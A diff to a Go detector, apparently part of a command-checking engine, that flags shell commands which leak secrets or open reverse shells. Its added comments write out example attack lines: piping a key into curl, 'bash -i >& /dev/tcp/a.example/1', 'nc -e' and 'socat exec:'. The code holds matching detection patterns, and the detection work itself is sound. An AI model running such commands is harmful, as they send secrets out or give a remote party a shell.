@@ -8,6 +8,8 @@ import (
 	"github.com/elicit-engine/elicit/engine/internal/guarded"
 )
 
+// Three ways are looked at: a pipe (cat key | curl -d @-), a word ($(cat key), -d @key), and the way over variables and
+// files, which leaks in flow.go follows only if the first two have found nothing.
 var commandExfiltrates = check{
 	Doc: Doc{
 		Code: "command_exfiltrates", Title: "Data leaves this machine", Severity: elicit.High,
@@ -33,7 +35,8 @@ var commandExfiltrates = check{
 	},
 }
 
-// reverseShell reports whether a shell talks to a connection.
+// reverseShell reports whether a shell talks to a connection. bash -i >& /dev/tcp/a.example/1, nc -e, and socat exec:
+// give a shell to whoever answers.
 func reverseShell(c *shellCommand) bool {
 	for i := range c.to {
 		if shells.Has(c.program) && connection(c.to[i].text) {
@@ -82,7 +85,8 @@ func connection(path string) bool {
 	return strings.HasPrefix(path, "/dev/tcp/") || strings.HasPrefix(path, "/dev/udp/")
 }
 
-// readsSecret reports whether a command writes the environment or a secret file to its output.
+// readsSecret reports whether a command writes the environment or a secret file to its output. Programs that only look
+// at names of files do not count, so "ls ~/.ssh | mail me" is no leak of a key.
 func readsSecret(c *shellCommand) bool {
 	switch c.program {
 	case "printenv", "export", "declare", "env": // env that runs nothing
@@ -102,14 +106,16 @@ func readsSecret(c *shellCommand) bool {
 	return c.program == "cat" && guarded.SecretFile(c.stdin)
 }
 
-// ownFlags are the flags after which a program reads a file for itself and does not send it.
+// ownFlags are the flags after which a program reads a file for itself and does not send it. The key behind
+// "curl --cert" opens the connection and is not sent. Blanks around each flag make a search for " -E " exact.
 var ownFlags = map[string]string{"curl": " -K --config -E --cert --key --cacert --netrc-file -b --cookie -c " +
 	"--cookie-jar -o --output -H --header -u --user ",
 	"wget": " -O --output-document --certificate --private-key --ca-certificate ",
 	"ssh":  " -i -F -o ", "scp": " -i -F -o ",
 	"sftp": " -i -F -o ", "rsync": " -e --password-file --exclude-from "}
 
-// uploadsSecret reports whether an argument is a secret file that is sent.
+// uploadsSecret reports whether an argument is a secret file that is sent. "@", "<" and "=" stand before the file: -d
+// @key, -F f=<key.
 func (c *shellCommand) uploadsSecret() bool {
 	if c.program == "ssh" || c.program == "rsync" && c.fromRemote() || c.program == "scp" && c.fromRemote() {
 		return false
@@ -134,6 +140,7 @@ func (c *shellCommand) fromRemote() bool {
 	return len(c.args) == 0 || !remote(c.args[len(c.args)-1].text)
 }
 
+// "host:dir" is remote. "c:dir" is a drive of Windows, and "./a:b" and "dir/a:b" are files.
 func remote(place string) bool {
 	at := strings.IndexByte(place, ':')
 	return at > 1 && !strings.Contains(place[:at], "/")
